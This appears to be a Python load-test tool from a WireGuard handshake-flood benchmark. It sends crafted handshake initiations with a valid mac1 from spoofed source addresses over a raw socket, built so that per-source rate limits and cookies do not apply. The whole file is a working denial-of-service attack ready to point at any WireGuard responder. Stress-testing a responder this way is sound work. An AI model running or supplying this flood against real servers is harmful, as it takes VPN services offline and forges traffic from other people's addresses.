#!/usr/bin/env python3
"""A handshake-initiation flood for the handshake-flood test and bench.

Sends WireGuard handshake initiations (type 1, 148 bytes) that look valid to a
responder before any public-key work: each carries a correct mac1 for the
responder's static public key (mac1 = keyed BLAKE2s-128 with key
HASH("mac1----" || S_pub) over the first 116 bytes, as in the WireGuard paper
section 5.4.4), random ephemeral, encrypted static and timestamp, no mac2.
Every packet comes from a different address of --sources (spoofed through a raw
socket), so per-source rate limits and cookies never apply to the attacker.
--bad-mac sends the same with mac1 wrong (the cheapest drop).

  wgflood.py --target 198.51.100.1:51821 --key <responder public key, base64>
             [--sources 100.64.0.0/10] [--seconds 10] [--pps 0 (as fast as possible)]
             [--distinct 8192] [--bad-mac]

Prints one line: "sent N in S s (R pps)", also when stopped early by SIGTERM.
Needs root (raw socket).
"""
import argparse
import base64
import hashlib
import ipaddress
import os
import random
import signal
import socket
import struct
import sys
import time


def mac1_key(pub: bytes) -> bytes:
    return hashlib.blake2s(b"mac1----" + pub).digest()


def initiation(key: bytes, bad_mac: bool) -> bytes:
    body = struct.pack("<I", 1) + os.urandom(4) + os.urandom(32 + 48 + 28)
    mac1 = hashlib.blake2s(body, key=key, digest_size=16).digest()
    if bad_mac:
        mac1 = bytes(b ^ 0xFF for b in mac1)
    return body + mac1 + bytes(16)


def packet(src: str, sport: int, dst: str, dport: int, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    # The kernel fills in the total length, the id and the header checksum (IP_HDRINCL).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main() -> int:
    ap = argparse.ArgumentParser(description="WireGuard handshake-initiation flood (valid mac1, spoofed sources)")
    ap.add_argument("--target", required=True, help="IPv4:port of the responder")
    ap.add_argument("--key", required=True, help="the responder's WireGuard public key (base64)")
    ap.add_argument("--sources", default="100.64.0.0/10", help="source addresses to spoof (IPv4 prefix)")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--pps", type=int, default=0, help="packets per second; 0: as fast as possible")
    ap.add_argument("--distinct", type=int, default=8192, help="distinct packets (sources) to cycle through")
    ap.add_argument("--bad-mac", action="store_true", help="send a wrong mac1")
    a = ap.parse_args()
    host, _, port = a.target.rpartition(":")
    try:
        pub = base64.b64decode(a.key, validate=True)
        assert len(pub) == 32
        net = ipaddress.IPv4Network(a.sources)
        dport = int(port)
        socket.inet_aton(host)
    except Exception as e:  # one line, not a traceback
        print(f"wgflood: bad argument: {e}", file=sys.stderr)
        return 2
    key = mac1_key(pub)
    rng = random.Random(1)
    size = net.num_addresses
    packets = []
    for _ in range(a.distinct):
        src = str(net.network_address + rng.randrange(1, size - 1))
        packets.append(packet(src, rng.randrange(1024, 65535), host, dport, initiation(key, a.bad_mac)))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    dest = (host, 0)
    sent = tried = 0
    start = time.monotonic()
    deadline = start + a.seconds
    n = len(packets)
    batch = 256
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))  # stop early, still report
    while not stop:
        now = time.monotonic()
        if now >= deadline:
            break
        if a.pps:
            due = int((now - start) * a.pps)
            if tried >= due:
                time.sleep(min(0.001, deadline - now))
                continue
        for i in range(batch):
            try:
                s.sendto(packets[(tried + i) % n], dest)
                sent += 1
            except OSError:
                pass  # a full send queue (ENOBUFS): not sent, not counted
        tried += batch
    took = time.monotonic() - start
    print(f"sent {sent} in {took:.1f} s ({sent / took:.0f} pps)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
